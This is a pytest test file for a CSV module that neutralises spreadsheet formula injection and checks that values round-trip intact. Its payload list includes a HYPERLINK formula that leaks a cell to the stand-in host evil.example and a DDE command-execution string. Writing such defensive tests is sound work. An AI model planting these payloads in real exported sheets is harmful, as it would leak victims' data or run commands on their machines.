"""storage.sheets: CSV cells a spreadsheet would evaluate are neutralised, and read back as written."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from storage.sheets import SheetReader, SheetWriter, neutralise, neutralise_note, restore

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''",
    "'tis fine",
    "a;=1+1",
    "a,=1+1",
    "line one\n=line two",
    "plain text",
    "",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _written(delimiter: str) -> str:
    buffer = io.StringIO(newline="")
    writer = SheetWriter(buffer, ["id", "text", "n"], delimiter=delimiter)
    writer.writeheader()
    writer.writerows({"id": f"r{i}", "text": p, "n": i} for i, p in enumerate(PAYLOADS))
    return buffer.getvalue()


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_written_cell_begins_a_formula(delimiter: str) -> None:
    text = _written(delimiter)
    # Read as a spreadsheet would with any of the usual separators: no cell starts a formula.
    for separator in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            for cell in row:
                assert not cell.startswith(TRIGGERS), (separator, cell)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("bom", ["", "\ufeff"])
def test_a_sheet_reads_back_as_written_whatever_its_separator(delimiter: str, bom: str) -> None:
    rows = list(SheetReader(io.StringIO(bom + _written(delimiter), newline="")))
    assert [r["text"] for r in rows] == PAYLOADS
    assert [r["n"] for r in rows] == [str(i) for i in range(len(PAYLOADS))]
    assert list(rows[0]) == ["id", "text", "n"]


def test_restore_undoes_neutralise_and_nothing_else() -> None:
    for value in PAYLOADS:
        assert restore(neutralise(value)) == value
    assert neutralise(5) == 5 and neutralise(None) is None
    assert restore("'tis") == "'tis"  # a reviewer's own leading quote stays
    assert neutralise("=1") == "'=1" and neutralise("'=1") == "''=1"


def test_comment_lines_split_by_a_spreadsheet_do_not_start_formulas() -> None:
    note = "project p, =HYPERLINK(1); @SUM(1),-2+3"
    for separator in (",", ";"):
        for cell in next(csv.reader([neutralise_note(note)], delimiter=separator)):
            assert not cell.lstrip(" ").startswith(TRIGGERS), cell


@given(st.text(alphabet=st.sampled_from(list("=+-@'\t\r\n,; ab\"")), max_size=12))
def test_every_string_survives_the_round_trip(value: str) -> None:
    assert restore(neutralise(value)) == value
    buffer = io.StringIO(newline="")
    writer = SheetWriter(buffer, ["text"])
    writer.writeheader()
    writer.writerow({"text": value})
    assert next(SheetReader(io.StringIO(buffer.getvalue(), newline="")))["text"] == value
